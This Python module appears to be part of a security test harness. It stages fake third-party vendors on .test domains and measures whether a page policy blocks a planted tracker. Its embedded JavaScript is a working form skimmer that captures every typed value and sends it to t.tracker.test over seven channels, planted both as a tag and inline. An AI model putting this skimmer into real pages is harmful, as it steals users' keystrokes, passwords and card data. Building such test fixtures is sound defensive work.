"""Third parties of the staged applications: a map, a payment form in a frame, and a tracker.

The tracker is planted twice: as its own tag, and as a snippet that stands in the application's
page, which a policy can't tell from the application's own code. Both send what is typed.
"""

import base64
import json
from collections.abc import Iterable
from pathlib import Path
from urllib.parse import parse_qs

from demo.clinic.connection import Reply
from demo.clinic.record import Arrival
from demo.clinic.site import PIXEL, sharing

TRACKER_DOMAIN = "tracker.test"
TRACKER = f"t.{TRACKER_DOMAIN}"
TILES = "tiles.mapstead.test"
PAYMENT = "js.cardhall.test"
CARD = "frame.cardhall.test"
HOSTS = (TRACKER, TILES, PAYMENT, CARD)
WAYS = ("image", "fetch", "beacon", "socket", "script", "style", "frame")

_LEAK = """(() => {
  const at = "https://t.tracker.test/p?by=BY-";
  const put = (name, attributes) => {
    const element = Object.assign(document.createElement(name), attributes);
    element.hidden = true;
    document.body.append(element);
  };
  const tell = (text) => {
    const value = encodeURIComponent(text);
    new Image().src = at + "image&v=" + value;
    fetch(at + "fetch", {method: "POST", mode: "no-cors", body: text}).catch(() => {});
    navigator.sendBeacon(at + "beacon", text);
    put("script", {src: at + "script&v=" + value});
    put("link", {rel: "stylesheet", href: at + "style&v=" + value});
    put("iframe", {src: at + "frame&v=" + value});
    try {
      const socket = new WebSocket(at.replace("https", "wss") + "socket&v=" + value);
      socket.onopen = () => socket.close();
    } catch {}
  };
  let last = "";
  const look = (event) => {
    const field = event.composedPath()[0];
    const text = field.type === "file" ? "" : field.value;
    if (text && text !== last) tell(last = String(text));
  };
  document.addEventListener("change", look, true);
  document.addEventListener("input", look, true);  // that leaves shadow trees, too
})();
"""
_CARD_SCRIPT = """window.mountCard = (place, done) => {
  const frame = document.createElement("iframe");
  frame.src = "https://frame.cardhall.test/card.html";
  frame.title = "Card";
  frame.width = 320;
  frame.height = 60;
  place.append(frame);
  addEventListener("message", (event) => {
    if (event.origin === "https://frame.cardhall.test") done(event.data.token);
  });
};
"""
_CARD_FRAME = """<!doctype html><title>Card</title><input id="card" autocomplete="cc-number">
<button id="pay">Pay</button><script>
document.querySelector("#pay").addEventListener("click", async () => {
  const number = document.querySelector("#card").value;
  const answer = await fetch("/tokens", {method: "POST", body: number});
  parent.postMessage(await answer.json(), "*");
});
</script>"""
_FILES = {
    f"{TRACKER}/t.js": ("text/javascript", _LEAK.replace("BY", "tag")),
    f"{PAYMENT}/v1.js": ("text/javascript", _CARD_SCRIPT),
    f"{CARD}/card.html": ("text/html; charset=utf-8", _CARD_FRAME),
    f"{CARD}/tokens": ("application/json", '{"token": "tok_maple"}'),
}


def plant() -> str:
    """What a site has in its head: the tracker's tag, and the same code in the page."""
    snippet = snippet_code()
    return f'<script src="https://{TRACKER}/t.js" async></script>\n<script>{snippet}</script>\n'


def snippet_code() -> str:
    """The code that stands in the page."""
    return _LEAK.replace("BY", "snippet")


def vendors(arrival: Arrival) -> Reply:
    """The answer of all of them."""
    found = _FILES.get(arrival.host + arrival.path)
    if arrival.header("sec-fetch-dest") == "script" and not found:
        found = ("text/javascript", "self.heard = true;\n")
    if found:
        kind, text = found
        return Reply(headers=(("Content-Type", kind), *sharing(arrival)), body=text.encode())
    return Reply(headers=(("Content-Type", "image/gif"), *sharing(arrival)), body=PIXEL)


def leaks(record: Path, domain: str, *, after: int = 0) -> dict[str, int]:
    """`{way: values that a domain got}` from line `after` of a record on; its scripts are none."""
    found: dict[str, set[str]] = {}
    for row in _rows(record, after):
        host, path = row.get("host", ""), row.get("path", "")
        if not f".{host}".endswith(f".{domain}") or path.endswith(".js"):
            continue
        words = parse_qs(row.get("query", ""))
        way = words.get("by", [f"{host}{path}"])[0]
        body = base64.b64decode(row["body"]).decode("utf-8", "replace")
        found.setdefault(way, set()).add(words.get("v", [body])[0])
    return {way: len(values) for way, values in sorted(found.items())}


def length(record: Path) -> int:
    """Lines a record has so far."""
    return sum(1 for _ in record.open("rb"))


def _rows(record: Path, after: int) -> Iterable[dict[str, str]]:
    for number, line in enumerate(record.read_text("utf-8").splitlines()):
        if number >= after:
            yield json.loads(line)
